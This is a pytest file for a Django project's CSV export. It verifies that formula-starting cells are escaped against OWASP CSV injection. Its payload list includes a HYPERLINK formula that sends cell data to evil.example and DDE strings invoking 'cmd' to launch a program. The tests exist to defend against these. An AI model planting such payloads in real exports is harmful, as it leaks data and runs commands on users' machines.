"""A CSV export opened in a spreadsheet must show data, never run formulas
(OWASP "CSV Injection")."""

import csv
import io

import pytest
from django.core.cache import cache

from community.models import CountryPage
from core.csv_export import csv_writer, safe_cell

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Benin")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [-3, 2.5, "-3", "-1,5", "Benin", "", None, True])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_safe_writer_quotes_every_dangerous_cell_of_a_row():
    out = io.StringIO()
    csv_writer(out).writerows([["=1+1", "ok", -4], ["@x", "\tx", "-x"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "ok", "-4"], ["'@x", "'\tx", "'-x"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_network_csv_does_not_hand_a_formula_to_a_spreadsheet(
    client, network, payload
):
    CountryPage.objects.filter(pk=network.benin.pk).update(title=payload)
    cache.clear()
    response = client.get("/network/network.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    benin = next(row for row in rows if row["iso"] == "BJ")
    assert benin["title"] == "'" + payload
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r"))
